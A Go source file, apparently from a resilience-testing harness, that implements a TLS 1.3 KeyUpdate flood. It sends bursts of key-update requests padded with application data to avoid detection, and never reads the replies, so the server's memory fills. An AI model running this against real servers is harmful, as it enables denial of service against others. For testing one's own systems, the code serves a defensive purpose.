package main

import (
	"context"
	"crypto/tls"
	"errors"
	"net"
	"time"
)

// keyUpdates: each is answered by one, which is held if nobody reads.
func keyUpdates() attack {
	return attack{
		name: "key-updates", actor: stranger, least: 5,
		does:  "4 TLS connections ask for new keys 1,000 times a second each, and do not read",
		harms: "have the answers fill the memory",
		run: func(ctx context.Context, g *ground, t *tally) error {
			return crew(ctx, t, 4, time.Second, func(ctx context.Context, i int) error { return g.updateKeys(ctx, t, i) })
		},
	}
}

func (g *ground) updateKeys(ctx context.Context, t *tally, i int) error {
	keys := &keyLog{}
	config := g.trust.Clone()
	config.KeyLogWriter, config.MinVersion = keys, tls.VersionTLS13
	socket, err := g.dial(ctx, t, attackSource(230), g.node(i).SIMPS)
	if err != nil {
		return err
	}
	defer socket.Close()
	_ = socket.SetDeadline(time.Now().Add(dialTimeout))
	secured := tls.Client(socket.Conn, config)
	if err := secured.HandshakeContext(ctx); err != nil {
		return err
	}
	_ = socket.SetDeadline(time.Time{})
	if secured.ConnectionState().CipherSuite != tls.TLS_AES_128_GCM_SHA256 {
		return errors.New("another cipher suite")
	}
	w, err := newTLSWriter(keys.clientSecret())
	if err != nil {
		return err
	}
	return every(ctx, 20, func() error { return w.burst(socket.Conn, t) })
}

// burst asks for new keys 50 times, with a word of application data after
// each, without which a server takes it for an attack.
func (w *tlsWriter) burst(to net.Conn, t *tally) error {
	var octets []byte
	for range 50 {
		update, err := w.keyUpdate()
		if err != nil {
			return err
		}
		octets = append(append(octets, update...), w.record(recordApplication, []byte("\r\n"))...)
	}
	t.add(50)
	_ = to.SetWriteDeadline(time.Now().Add(writeTimeout))
	_, err := to.Write(octets)
	return err
}
